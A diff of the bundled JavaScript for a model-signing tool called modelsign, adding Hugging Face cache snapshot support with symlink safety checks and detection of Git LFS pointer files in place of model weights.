       }
       x += 4 + len;
     }
@@ -53162,6 +53249,11 @@ async function scanContent(content, shown, limits) {
   const size = content.file.size;
   const src = content.bytes();
   try {
+    const pointer = await pointerIn(src, size);
+    if (pointer) {
+      const finding = { code: "LFS_POINTER", severity: "high", file: shown, message: `${lfsPointerText(pointer)} in place of the file: ${LFS_PULL}` };
+      return report(shown, size, { format: "unknown", pickle: false, imports: [], findings: [finding] });
+    }
     await src.ensure(SNIFF_BYTES);
     const kind = sniff(src.peek(SNIFF_BYTES), shown);
     if (kind !== "zip") return report(shown, size, await scanStream(src, kind, size, shown, limits));
@@ -53190,6 +53282,7 @@ var init_scan_file = __esm({
     init_random_access();
     init_detect();
     init_gguf();
+    init_lfs_pointer();
     init_npy();
     init_pickle();
     init_safetensors();
@@ -53822,9 +53915,9 @@ var init_blake2 = __esm({
             swap32IfBE2(buffer32);
             this.pos = 0;
           }
-          const take = Math.min(blockLen - this.pos, len - pos);
+          const take2 = Math.min(blockLen - this.pos, len - pos);
           const dataOffset = offset + pos;
-          if (take === blockLen && !(dataOffset % 4) && pos + take < len) {
+          if (take2 === blockLen && !(dataOffset % 4) && pos + take2 < len) {
             const data32 = new Uint32Array(buf, dataOffset, Math.floor((len - pos) / 4));
             swap32IfBE2(data32);
             for (let pos32 = 0; pos + blockLen < len; pos32 += buffer32.length, pos += blockLen) {
@@ -53834,10 +53927,10 @@ var init_blake2 = __esm({
             swap32IfBE2(data32);
             continue;
           }
-          buffer.set(pos === 0 && take === len ? data : data.subarray(pos, pos + take), this.pos);
-          this.pos += take;
-          this.length += take;
-          pos += take;
+          buffer.set(pos === 0 && take2 === len ? data : data.subarray(pos, pos + take2), this.pos);
+          this.pos += take2;
+          this.length += take2;
+          pos += take2;
         }
         return this;
       }
@@ -54114,10 +54207,10 @@ var init_blake3 = __esm({
         for (let pos = 0, len = out2.length; pos < len; ) {
           if (this.posOut >= blockLen)
             this.b2CompressOut();
-          const take = Math.min(blockLen - this.posOut, len - pos);
-          out2.set(bufferOut.subarray(this.posOut, this.posOut + take), pos);
-          this.posOut += take;
-          pos += take;
+          const take2 = Math.min(blockLen - this.posOut, len - pos);
+          out2.set(bufferOut.subarray(this.posOut, this.posOut + take2), pos);
+          this.posOut += take2;
+          pos += take2;
         }
         return out2;
       }
@@ -54846,7 +54939,7 @@ var DEFAULT_IGNORES;
 var init_paths = __esm({
   "src/hashing/paths.ts"() {
     "use strict";
-    DEFAULT_IGNORES = [".git", ".github", ".gitattributes", ".gitignore"];
+    DEFAULT_IGNORES = [".git", ".github", ".gitattributes", ".gitignore", ".cache/huggingface"];
   }
 });
 
@@ -59026,12 +59119,347 @@ var init_file = __esm({
   }
 });
 
+// src/source/hf-layout.ts
+import path17 from "node:path";
+function validId(id2) {
+  const parts = id2.split("/");
+  return parts.length <= 2 && parts.every((p2) => ID_PART.test(p2)) && !id2.includes("--") && !id2.includes("..");
+}
+function repoFolderName(repo) {
+  return [`${repo.type}s`, ...repo.id.split("/")].join("--");
+}
+function parseRepoFolder(name2) {
+  const parts = name2.split("--");
+  const type = Object.hasOwn(FOLDER_PREFIX, parts[0]) ? FOLDER_PREFIX[parts[0]] : void 0;
+  if (!type || parts.length < 2 || parts.length > 3) return void 0;
+  const id2 = parts.slice(1).join("/");
+  return validId(id2) ? { type, id: id2 } : void 0;
+}
+function snapshotPlace(real) {
+  const segs = real.split(path17.sep);
+  for (let i = segs.length - 1; i >= 3; i--) {
+    if (segs[i - 1] !== "snapshots") continue;
+    const repo = parseRepoFolder(segs[i - 2]);
+    const revision = segs[i];
+    if (!repo || revision === "" || revision.startsWith(".")) continue;
+    const repoDir = segs.slice(0, i - 1).join(path17.sep) || path17.sep;
+    return { cacheRoot: path17.dirname(repoDir), repoDir, repo, revision, sub: segs.slice(i + 1).join("/") };
+  }
+  return void 0;
+}
+function parseHfReference(ref) {
+  if (!ref.startsWith(HF_SCHEME)) return "it does not start with hf://";
+  let rest = ref.slice(HF_SCHEME.length);
+  const at2 = rest.indexOf("@");
+  let revision;
+  if (at2 >= 0) {
+    try {
+      revision = decodeURIComponent(rest.slice(at2 + 1));
+    } catch {
+      return "the revision is not valid URL encoding";
+    }
+    rest = rest.slice(0, at2);
+    const why2 = revisionProblem(revision);
+    if (why2) return why2;
+  }
+  if (rest.endsWith("/")) rest = rest.slice(0, -1);
+  let type = "model";
+  const first = rest.split("/")[0];
+  if (Object.hasOwn(URL_PREFIX, first) && rest.length > first.length + 1) {
+    type = URL_PREFIX[first];
+    rest = rest.slice(first.length + 1);
+  }
+  if (rest.split("/").length > 2) return "a path inside the repo is not a model: name the repo itself (hf://org/name[@revision])";
+  if (!validId(rest)) return `"${rest}" is not a Hugging Face repo id (org/name: letters, digits, '-', '_' and '.'; no "--" or "..")`;
+  return { repo: { type, id: rest }, revision };
+}
+function revisionProblem(revision) {
+  if (revision === "") return 'the revision after "@" is empty';
+  if (revision.length > 256) return "the revision is longer than 256 characters";
+  const why2 = unsafeNameReason(revision);
+  return why2 ? `the revision is not a ref or commit hash (${why2})` : void 0;
+}
+function namedBySha256(blobName) {
+  return SHA256_RE.test(blobName);
+}
+function isRepoBlob(target, blobsDir, sharedBlobsDir) {
+  const dir = path17.dirname(target);
+  if (dir === blobsDir) return true;
+  return path17.dirname(dir) === sharedBlobsDir && path17.basename(dir) !== "";
+}
+function defaultHubCache(home) {
+  return path17.join(home, ".cache", "huggingface", "hub");
+}
+var FOLDER_PREFIX, URL_PREFIX, COMMIT_RE, SHA256_RE, ID_PART, HF_SCHEME;
+var init_hf_layout = __esm({
+  "src/source/hf-layout.ts"() {
+    "use strict";
+    init_paths();
+    FOLDER_PREFIX = { models: "model", datasets: "dataset", spaces: "space", kernels: "kernel" };
+    URL_PREFIX = { datasets: "dataset", spaces: "space", kernels: "kernel" };
+    COMMIT_RE = /^[0-9a-f]{40}$/;
+    SHA256_RE = /^[0-9a-f]{64}$/;
+    ID_PART = /^[A-Za-z0-9_](?:[A-Za-z0-9_.-]{0,94}[A-Za-z0-9_])?$/;
+    HF_SCHEME = "hf://";
+  }
+});
+
+// src/source/hf-cache.ts
+import { lstatSync as lstatSync2, readlinkSync, realpathSync as realpathSync2 } from "node:fs";
+import { lstat as lstat5, realpath as realpath3, stat as stat8 } from "node:fs/promises";
+import path18 from "node:path";
+function plainDir(p2) {
+  try {
+    return lstatSync2(p2).isDirectory() ? p2 : void 0;
+  } catch {
+    return void 0;
+  }
+}
+function snapshotOf(root, place) {
+  return { place, root, blobsDir: plainDir(path18.join(place.repoDir, "blobs")), sharedDir: plainDir(path18.join(place.cacheRoot, "blobs")) };
+}
+function adopt(name2, abs, st2, blob) {
+  return { file: { name: name2, abs, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino }, stamp: { mtimeMs: st2.mtimeMs, ctimeMs: st2.ctimeMs } }, blob };
+}
+function outsideWhy(snap, target) {
+  const repoDir = path18.dirname(path18.dirname(target));
+  const other = parseRepoFolder(path18.basename(repoDir));
+  if (other && path18.dirname(repoDir) === snap.place.cacheRoot && path18.basename(path18.dirname(target)) === "blobs" && repoDir !== snap.place.repoDir) {
+    return `symlink points to a blob of another repo (${repoFolderName(other)}): a snapshot's links are followed only into its own repo's blobs/`;
+  }
+  return `symlink points outside the repo's blobs/ (a snapshot's links are followed only into ${repoFolderName(snap.place.repo)}/blobs/)`;
+}
+function adoptBlobLinks(walked, judge) {
+  const taken = { names: /* @__PURE__ */ new Set(), blobs: /* @__PURE__ */ new Map() };
+  const kept = [];
+  for (const p2 of walked.problems) {
+    if (p2.code !== "SYMLINK_OUTSIDE" && p2.code !== "SYMLINK_BROKEN" || p2.path === void 0) {
+      kept.push(p2);
+      continue;
+    }
+    const j2 = judge.judge(p2.path, path18.join(walked.root, p2.path));
+    if ("code" in j2) kept.push(j2);
+    else take(walked, taken, j2);
+  }
+  walked.problems = kept;
+  return taken;
+}
+function take(walked, taken, j2) {
+  walked.files.push(j2.file);
+  taken.names.add(j2.file.name);
+  if (j2.blob !== void 0) taken.blobs.set(j2.file.name, j2.blob);
+}
+function adoptSignedUnderIgnored(walked, judge, req, taken) {
+  const judged = /* @__PURE__ */ new Set();
+  if (!req.signedPaths) return judged;
+  const listed = new Set(walked.files.map((f2) => f2.name));
+  for (const name2 of req.signedPaths) {
+    if (listed.has(name2) || !isIgnored(name2, req.ignorePaths)) continue;
+    const segs = name2.split("/");
+    const dirs = segs.slice(0, -1).map((_2, i) => path18.join(walked.root, ...segs.slice(0, i + 1)));
+    const abs = path18.join(walked.root, ...segs);
+    if (!dirs.every((d) => plainDir(d) !== void 0) || !lstatSync2(abs, { throwIfNoEntry: false })?.isSymbolicLink()) continue;
+    judged.add(name2);
+    const j2 = judge.judge(name2, abs);
+    if ("code" in j2) walked.problems.push(j2);
+    else take(walked, taken, j2);
+  }
+  return judged;
+}
+function blobMismatches(read, blobs, req) {
+  if (req.alg !== "sha256") return [];
+  const out2 = [];
+  for (const f2 of read.listing.files) {
+    const blob = blobs.get(f2.name);
+    if (blob === void 0 || !namedBySha256(blob)) continue;
+    const o = read.hashed.get(rangeKey(f2.name, 0, f2.size));
+    if (o?.ok && o.digest !== blob) {
+      out2.push({ code: "HF_BLOB_MISMATCH", path: f2.name, message: `blob ${blob} holds other bytes (sha256 ${o.digest}): the cache was written through a snapshot link; download the file again` });
+    }
+  }
+  return out2;
+}
+function dirId(p2) {
+  const st2 = p2 === void 0 ? void 0 : lstatSync2(p2, { throwIfNoEntry: false });
+  return st2?.isDirectory() ? `${st2.dev}:${st2.ino}` : void 0;
+}
+function refuseIfBlobsMoved(walked, snap, before, taken) {
+  if (dirId(snap.blobsDir) === before) return;
+  walked.files = walked.files.filter((f2) => !taken.names.has(f2.name));
+  for (const name2 of taken.names) {
+    taken.blobs.delete(name2);
+    walked.problems.push({ code: "FILE_REPLACED", path: name2, message: "the repo's blobs/ folder was replaced while the model was being listed" });
+  }
+}
+async function readSnapshot(snap, req) {
+  const blobsId = dirId(snap.blobsDir);
+  const walked = await enumerateModel(snap.root, { ignorePaths: req.ignorePaths, allowSymlinks: req.allowSymlinks });
+  const judge = new LinkJudge(snap);
+  const taken = adoptBlobLinks(walked, judge);
+  const judged = adoptSignedUnderIgnored(walked, judge, req, taken);
+  refuseIfBlobsMoved(walked, snap, blobsId, taken);
+  walked.files.sort((a, b2) => compareCodePoints(a.name, b2.name));
+  walked.problems.sort((a, b2) => compareCodePoints(a.path ?? "", b2.path ?? ""));
+  const signedPaths = req.signedPaths && judged.size > 0 ? new Set([...req.signedPaths].filter((n) => !judged.has(n))) : req.signedPaths;
+  const read = await readWalked(walked, { ...req, ...signedPaths ? { signedPaths } : {} });
+  for (const p2 of blobMismatches(read, taken.blobs, req)) read.listing.problems.push(p2);
+  return read;
+}
+function publishedSignature(snap) {
+  const abs = path18.join(snap.root, "model.sig");
+  if (!lstatSync2(abs, { throwIfNoEntry: false })?.isSymbolicLink()) return void 0;
+  const j2 = new LinkJudge(snap).judge("model.sig", abs);
+  return "code" in j2 ? void 0 : j2.file.abs;
+}
+function snapshotSource(model, snap, ref) {
+  const { repo, revision, sub } = snap.place;
+  const sigWrite = path18.join(model, "model.sig");
+  const sigRead = publishedSignature(snap) ?? sigWrite;
+  return {
+    kind: "hf-snapshot",
+    model,
+    // The signature's own name inside the model: a published model.sig is a blob, not beside it.
+    defaultIgnores: ["model.sig"],
+    defaultName: () => sub === "" ? repo.id : `${repo.id}/${sub}`,
+    defaultSignaturePath: () => sigRead,
+    signatureWritePath: () => sigWrite,
+    provenance: {
+      type: "huggingface",
+      repo: repo.id,
+      ...repo.type !== "model" ? { repo_type: repo.type } : {},
+      revision,
+      ...ref !== void 0 ? { ref } : {},
+      ...sub !== "" ? { path: sub } : {}
+    },
+    read: (req) => readSnapshot(snap, req)
+  };
+}
+async function hubSnapshotSource(model) {
+  const root = await realpath3(model);
+  const place = snapshotPlace(root);
+  return place ? snapshotSource(model, snapshotOf(root, place)) : void 0;
+}
+function notCached(message) {
+  throw usage("HF_NOT_CACHED", message);
+}
+async function resolveRevision(ref, repoDir, revision, download) {
+  if (COMMIT_RE.test(revision)) return revision;
+  const file = path18.join(repoDir, "refs", ...revision.split("/"));
+  let text;
+  try {
+    text = (await readRegularFile(file, 1024, { noFollow: true })).toString("utf8").trim();
+  } catch (e) {
+    const c = errnoCode(e);
+    if (c === "ENOENT" || c === "ENOTDIR") notCached(`${ref}: revision "${revision}" is not in the cache (no ${file}; a commit is named by its 40-hex hash): download it first (${download} --revision ${revision})`);
+    const why2 = e instanceof NotRegularFile ? "not a regular file" : e instanceof FileTooLarge ? "larger than 1 KiB" : c === "ELOOP" ? "a symlink (not followed)" : c ?? String(e);
+    return notCached(`${ref}: ${file} cannot be read as a ref: ${why2}`);
+  }
+  if (!COMMIT_RE.test(text)) notCached(`${ref}: ${file} does not hold a commit hash`);
+  return text;
+}
+async function hubReferenceSource(ref, cacheDir2) {
+  const parsed = parseHfReference(ref);
+  if (typeof parsed === "string") throw usage("HF_BAD_REFERENCE", `${ref} is not a Hugging Face model reference: ${parsed}`);
+  const cache = path18.resolve(cacheDir2);
+  const repoDir = path18.join(cache, repoFolderName(parsed.repo));
+  const download = `hf download ${parsed.repo.type !== "model" ? `--repo-type ${parsed.repo.type} ` : ""}${parsed.repo.id}`;
+  const folder = await stat8(repoDir).catch(() => void 0);
+  if (!folder) notCached(`${ref} is not in the Hugging Face cache at ${cache} (no ${repoFolderName(parsed.repo)}): download it first (${download}); modelsign never downloads`);
+  if (!folder.isDirectory()) notCached(`${ref}: ${repoDir} is not a directory`);
+  const revision = parsed.revision ?? "main";
+  const commit = await resolveRevision(ref, repoDir, revision, download);
+  const snapDir = path18.join(repoDir, "snapshots", commit);
+  const st2 = await lstat5(snapDir).catch(() => void 0);
+  if (!st2?.isDirectory()) notCached(`${ref}: revision ${commit} has no snapshot in the cache (no ${snapDir}): download it first (${download} --revision ${commit})`);
+  const root = await realpath3(snapDir);
+  const place = { cacheRoot: await realpath3(cache), repoDir: await realpath3(repoDir), repo: parsed.repo, revision: commit, sub: "" };
+  return snapshotSource(snapDir, snapshotOf(root, place), COMMIT_RE.test(revision) ? void 0 : revision);
+}
+var NOT_PLAIN, LinkJudge;
+var init_hf_cache = __esm({
+  "src/source/hf-cache.ts"() {
+    "use strict";
+    init_errors();
+    init_paths();
+    init_read_file();
+    init_hf_layout();
+    init_local_read();
+    init_ranges();
+    init_walk();
+    NOT_PLAIN = "symlink into the repo's blobs/, which is not a plain folder (a link or another file): not followed";
+    LinkJudge = class {
+      constructor(snap) {
+        this.snap = snap;
+      }
+      realDirs = /* @__PURE__ */ new Map();
+      realDir(dir) {
+        if (!this.realDirs.has(dir)) {
+          let real;
+          try {
+            real = realpathSync2.native(dir);
+          } catch {
+            real = void 0;
+          }
+          this.realDirs.set(dir, real);
+        }
+        return this.realDirs.get(dir);
+      }
+      /** Where the link at `abs` points, one step, resolved against its folder's real path. */
+      hop(abs) {
+        const dir = this.realDir(path18.dirname(abs));
+        if (dir === void 0) return void 0;
+        try {
+          return path18.resolve(dir, readlinkSync(abs));
+        } catch {
+          return void 0;
+        }
+      }
+      /** The repo blob `p` names (its file name), when it is an entry of the repo's own blobs/. */
+      blobNamed(p2) {
+        return p2 !== void 0 && this.snap.blobsDir !== void 0 && this.realDir(path18.dirname(p2)) === this.snap.blobsDir ? path18.basename(p2) : void 0;
+      }
+      judge(name2, abs) {
+        const hop = this.hop(abs);
+        const blob = this.blobNamed(hop);
+        if (blob !== void 0) {
+          const st2 = lstatSync2(hop, { throwIfNoEntry: false });
+          if (!st2) return { code: "SYMLINK_BROKEN", path: name2, message: `blob ${blob} is missing from the cache: download the file again` };
+          if (st2.isFile()) return adopt(name2, hop, st2, blob);
+        }
+        return this.resolved(name2, abs, blob);
+      }
+      resolved(name2, abs, blob) {
+        let target;
+        try {
+          target = realpathSync2.native(abs);
+        } catch (e) {
+          if (errnoCode(e) === "ELOOP") return { code: "SYMLINK_BROKEN", path: name2, message: "symlink loop: the target can never be reached" };
+          return { code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" };
+        }
+        if (target.includes("\uFFFD")) return { code: "UNSAFE_NAME", path: name2, message: "symlink target path is not valid UTF-8" };
+        if (!this.snap.blobsDir) return { code: "SYMLINK_OUTSIDE", path: name2, message: NOT_PLAIN };
+        if (!isRepoBlob(target, this.snap.blobsDir, this.snap.sharedDir ?? this.snap.blobsDir)) return { code: "SYMLINK_OUTSIDE", path: name2, message: outsideWhy(this.snap, target) };
+        const st2 = lstatSync2(target, { throwIfNoEntry: false });
+        if (!st2) return { code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" };
+        if (!st2.isFile()) return { code: "SPECIAL_FILE", path: name2, message: "symlink into the blobs is not to a regular file" };
+        return adopt(name2, target, st2, blob);
+      }
+    };
+  }
+});
+
 // src/source/index.ts
+var source_exports = {};
+__export(source_exports, {
+  isArchivePath: () => isArchivePath2,
+  openSource: () => openSource
+});
+import os6 from "node:os";
 async function openSource(model, opts = {}) {
   if (model === "") throw usage("MODEL_NOT_FOUND", "model not found: the model path is empty");
   for (const s3 of SCHEMES) if (s3.test(model)) return s3.open(model, opts);
   const st2 = await statModel(model);
-  if (st2.isDirectory()) return directorySource(model);
+  if (st2.isDirectory()) return await hubSnapshotSource(model) ?? directorySource(model);
   if (st2.isFile() && isArchivePath2(model) && !opts.archiveAsFile) return archiveSource(model);
   return fileSource(model);
 }
@@ -59044,8 +59472,12 @@ var init_source3 = __esm({
     init_archive2();
     init_directory();
     init_file();
+    init_hf_cache();
+    init_hf_layout();
     init_archive2();
-    SCHEMES = [];
+    SCHEMES = [
+      { test: (m2) => m2.startsWith(HF_SCHEME), open: (m2, o) => hubReferenceSource(m2, o.hfCache ?? defaultHubCache(os6.homedir())) }
+    ];
   }
 });
 
@@ -59107,10 +59539,12 @@ function specialModelIsRejection(e) {
 async function checkFiles(input) {
   const { serialization: ser, source } = input;
   const failures = [];
-  const ignores = effectiveIgnores(input.model, input.signaturePath, [...source.defaultIgnores, ...ser.ignore_paths ?? []], input.ignorePaths);
+  const ignores = effectiveIgnores(source.model, input.signaturePath, [...source.defaultIgnores, ...ser.ignore_paths ?? []], input.ignorePaths);
   let grouped = groupResources(input.resources, ser, void 0);
+  const lfs = new LfsPointerInspector(input.inspector);
   const read = await source.read({
     ...sourceRequest(input, ignores, () => grouped.byFile),
+    inspector: lfs,
     onListed: (listing2) => {
       if (listing2.isFile && listing2.files.length === 1) grouped = groupResources(input.resources, ser, listing2.files[0].name);
     }
@@ -59168,7 +59602,15 @@ async function checkFiles(input) {
       if (!byFile.has(f2.name)) failures.push({ code: "FILE_UNEXPECTED", path: f2.name, message: "file is not in the signature" });
     }
   }
+  nameLfsPointers(failures, lfs);
   return { failures, filesChecked: byFile.size, bytesHashed, bytesRead: read.bytesRead };
+}
+function nameLfsPointers(failures, lfs) {
+  if (lfs.found.size === 0) return;
+  failures.forEach((f2, i) => {
+    const p2 = f2.code === "FILE_CHANGED" && f2.path !== void 0 ? lfs.found.get(f2.path) : void 0;
+    if (p2) failures[i] = { code: "LFS_POINTER", path: f2.path, message: `${lfsPointerText(p2)} in place of the signed file: ${LFS_PULL}` };
+  });
 }
 function sourceRequest(input, ignorePaths, byFile) {
   const ser = input.serialization;
@@ -59178,7 +59620,6 @@ function sourceRequest(input, ignorePaths, byFile) {
     ignorePaths,
     signedPaths: new Set(byFile().keys()),
     ...input.engine ? { engine: input.engine } : {},
-    ...input.inspector ? { inspector: input.inspector } : {},
     ...input.onHashed ? { onHashed: input.onHashed } : {},
     ranges: (name2, size) => {
       const list2 = byFile().get(name2);
@@ -59194,6 +59635,7 @@ var init_files = __esm({
     init_errors();
     init_paths();
     init_ranges();
+    init_lfs_pointer();
   }
 });
 
@@ -59254,7 +59696,7 @@ __export(pipeline_exports, {
   checkTrust: () => checkTrust,
   verifyModel: () => verifyModel
 });
-import path17 from "node:path";
+import path19 from "node:path";
 function requireIdentityPolicy(bundle, trust) {
   if (bundle.material.kind === "publicKey") return;
   const vm = bundle.json.verificationMaterial;
@@ -59297,7 +59739,7 @@ function checkRootDigest(statement, result) {
   return false;
 }
 function signedAsOneFile(model, statement) {
-  const base2 = path17.basename(model);
+  const base2 = path19.basename(model);
   const fileOf = (n) => statement.serialization.method === "shards" ? parseShardName(n)?.path ?? n : n;
   return statement.resources.length > 0 && statement.resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2);
 }
@@ -59643,7 +60085,7 @@ async function walkLineage(opts) {
     }
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
-    const path25 = new Set(onPath).add(link.rootDigest);
+    const path28 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver6.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -59655,7 +60097,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path25, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path28, nextBelow));
     }
     return node;
   };
@@ -59738,7 +60180,7 @@ __export(state_exports, {
   recordVerified: () => recordVerified,
   serializeState: () => serializeState
 });
-import { open as open6, rename as rename2, stat as stat8, unlink as unlink4 } from "node:fs/promises";
+import { open as open6, rename as rename2, stat as stat9, unlink as unlink4 } from "node:fs/promises";
 function bad4(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
 }
@@ -59795,7 +60237,7 @@ async function acquireLock(lock, timeoutMs, staleMs) {
       if (c !== "EEXIST") throw usage("STATE_UNREADABLE", `cannot create lock file ${lock}: ${writeFailureWords(e, lock)}`);
     }
     try {
-      const st2 = await stat8(lock);
+      const st2 = await stat9(lock);
       if (Date.now() - st2.mtimeMs > staleMs) {
         const aside = `${lock}.${process.pid}.${Date.now()}.stale`;
         await rename2(lock, aside).then(() => unlink4(aside)).catch(() => void 0);
@@ -60050,7 +60492,7 @@ __export(append_exports, {
   appendAudit: () => appendAudit
 });
 import { constants as constants6 } from "node:fs";
-import { open as open7, stat as stat9, unlink as unlink5, writeFile as writeFile2 } from "node:fs/promises";
+import { open as open7, stat as stat10, unlink as unlink5, writeFile as writeFile2 } from "node:fs/promises";
 async function withLock(file, fn) {
   const lock = `${file}.lock`;
   const deadline = Date.now() + LOCK_WAIT_MS;
@@ -60061,7 +60503,7 @@ async function withLock(file, fn) {
       break;
     } catch (e) {
       if (errnoCode(e) !== "EEXIST") throw usage("AUDIT_WRITE_FAILED", `cannot lock audit log ${file}: ${writeFailureWords(e, lock)}`);
-      const st2 = await stat9(lock).catch(() => void 0);
+      const st2 = await stat10(lock).catch(() => void 0);
       if (st2 && Date.now() - st2.mtimeMs > STALE_MS) {
         await unlink5(lock).catch(() => void 0);
         continue;
@@ -60266,6 +60708,12 @@ function nameRefusal(listing) {
   const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
   return usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
 }
+function lfsRefusal(lfs) {
+  const [first] = lfs.found;
+  if (!first) return void 0;
+  const more = lfs.found.size > 1 ? ` (and ${lfs.found.size - 1} more)` : "";
+  return usage("LFS_POINTER", `${displayPath(first[0])} is ${lfsPointerText(first[1])}: ${LFS_PULL}${more}`, first[0]);
+}
 async function digestModel(opts) {
   const hash = opts.hash ?? "sha256";
   if (opts.shardSize !== void 0 && (!Number.isSafeInteger(opts.shardSize) || opts.shardSize <= 0)) {
@@ -60274,7 +60722,7 @@ async function digestModel(opts) {
   const budget = opts.budget ?? new SizeBudget(hash, opts.shardSize);
   const source = opts.source ?? await openSource(opts.model);
   const sigPath = opts.signature ?? source.defaultSignaturePath();
-  const ignorePaths = effectiveIgnores(opts.model, sigPath, source.defaultIgnores, opts.ignorePaths ?? []);
+  const ignorePaths = effectiveIgnores(source.model, sigPath, source.defaultIgnores, opts.ignorePaths ?? []);
   const method = opts.shardSize ? "shards" : "files";
   const counted = /* @__PURE__ */ new Set();
   const count = (name2, size) => {
@@ -60282,8 +60730,10 @@ async function digestModel(opts) {
     counted.add(name2);
     budget.add(name2, size);
   };
+  const lfs = new LfsPointerInspector();
   const read = await source.read({
     alg: hash,
+    inspector: lfs,
     allowSymlinks: opts.allowSymlinks ?? false,
     ignorePaths,
     ...opts.engine ? { engine: opts.engine } : {},
@@ -60307,6 +60757,8 @@ async function digestModel(opts) {
   if (listing.problems.length > 0) throw listingRefusal(listing, opts.model);
   const bad5 = nameRefusal(listing);
   if (bad5) throw bad5;
+  const pointers = lfsRefusal(lfs);
+  if (pointers) throw pointers;
   const resources = [];
   for (const f2 of listing.files) {
     for (const [start, end] of plannedRanges(method, opts.shardSize, f2.size)) {
@@ -60329,6 +60781,7 @@ var init_digest = __esm({
     init_source3();
     init_ranges();
     init_names();
+    init_lfs_pointer();
     init_budget();
     init_one_line();
   }
@@ -60369,7 +60822,7 @@ async function checkVersion(version) {
 async function signModel(opts) {
   const version = await checkVersion(opts.version);
   const source = opts.source ?? await openSource(opts.model);
-  const signaturePath = opts.signature ?? source.defaultSignaturePath();
+  const signaturePath = opts.signature ?? source.signatureWritePath?.() ?? source.defaultSignaturePath();
   const write = opts.write !== false;
   if (write) await checkWritable(signaturePath, "file");
   const budget = new SizeBudget(opts.hash ?? "sha256", opts.shardSize);
@@ -60381,6 +60834,8 @@ async function signModel(opts) {
     ...opts.license ? { license: opts.license } : {},
     created: (/* @__PURE__ */ new Date()).toISOString(),
     tool: `modelsign/${TOOL_VERSION}`,
+    // Where the bytes came from (a hub cache snapshot: repo and revision), shown by verify.
+    ...source.provenance ? { source: { ...source.provenance } } : {},
     ...opts.extraMetadata ?? {}
   };
   const statement = buildStatement({ name: name2, rootDigest: d.rootDigest, serialization: d.serialization, resources: d.resources, metadata });
@@ -60433,8 +60888,8 @@ var init_signature_path = __esm({
 });
 
 // src/scan/scan-path.ts
-import { lstat as lstat5 } from "node:fs/promises";
-import path19 from "node:path";
+import { lstat as lstat6 } from "node:fs/promises";
+import path21 from "node:path";
 function summarise(target, files, extra, failOn = "low", refused = 0) {
   const findings = [...extra, ...files.flatMap((f2) => f2.findings)].sort((a, b2) => severityRank(b2.severity) - severityRank(a.severity));
   const clean5 = !findings.some((f2) => severityRank(f2.severity) >= severityRank(failOn));
@@ -60452,19 +60907,23 @@ function notScanned(p2) {
       return `not scanned: ${p2.message}`;
   }
 }
-async function scanPath(target, opts = {}) {
-  const limits = { ...DEFAULT_LIMITS, ...opts.limits };
+async function scanSource(target) {
   let st2;
   try {
-    st2 = await lstat5(target);
+    st2 = await lstat6(target);
   } catch (e) {
     throw usage("SCAN_NOT_FOUND", errnoCode(e) === "ENOENT" ? `no such file or directory: ${target}` : `cannot read ${target}: ${errnoCode(e) ?? String(e)}`);
   }
   if (!st2.isFile() && !st2.isDirectory() && !st2.isSymbolicLink()) throw usage("SPECIAL_FILE", `not a file, directory or archive: ${target}`);
-  const source = await openSource(target);
+  return openSource(target);
+}
+async function scanPath(target, opts = {}) {
+  const limits = { ...DEFAULT_LIMITS, ...opts.limits };
+  const source = opts.source ?? await scanSource(target);
   const inspector = new ScanInspector(limits);
-  const { listing } = await source.read({ ranges: () => [], allowSymlinks: false, ignorePaths: [], inspector });
-  const shown = source.kind === "archive" ? (name2) => `${path19.basename(target)}:${name2}` : (name2) => name2;
+  const ignorePaths = effectiveIgnores(source.model, source.defaultSignaturePath(), source.defaultIgnores, []);
+  const { listing } = await source.read({ ranges: () => [], allowSymlinks: false, ignorePaths, inspector });
+  const shown = source.kind === "archive" ? (name2) => `${path21.basename(target)}:${name2}` : (name2) => name2;
   for (const r of inspector.reports) {
     r.file = shown(r.file);
     for (const f2 of r.findings) f2.file = shown(f2.file);
@@ -60473,7 +60932,7 @@ async function scanPath(target, opts = {}) {
   const extra = listing.problems.map((p2) => ({
     code: "SCAN_SKIPPED",
     severity: UNSCANNED_HIGH.has(p2.code) || p2.path === void 0 ? "high" : "medium",
-    file: p2.path !== void 0 ? shown(p2.path) : path19.basename(target),
+    file: p2.path !== void 0 ? shown(p2.path) : path21.basename(target),
     message: notScanned(p2)
   }));
   for (const f2 of inspector.findings) extra.push(f2);
@@ -60484,6 +60943,7 @@ var init_scan_path = __esm({
   "src/scan/scan-path.ts"() {
     "use strict";
     init_errors();
+    init_paths();
     init_source3();
     init_inspector();
     init_types();
@@ -60678,7 +61138,7 @@ var init_hostile = __esm({
 
 // src/drill/model.ts
 import { mkdir as mkdir3, writeFile as writeFile3 } from "node:fs/promises";
-import path20 from "node:path";
+import path22 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
   let x = seed >>> 0 || 1;
@@ -60697,12 +61157,12 @@ function safetensorsShard(tensor, data) {
   return Buffer.concat([len, header, data]);
 }
 async function writeModel(dir, seed = 1) {
-  await mkdir3(path20.join(dir, "tokenizer"), { recursive: true });
-  await writeFile3(path20.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile3(path20.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile3(path20.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile3(path20.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile3(path20.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
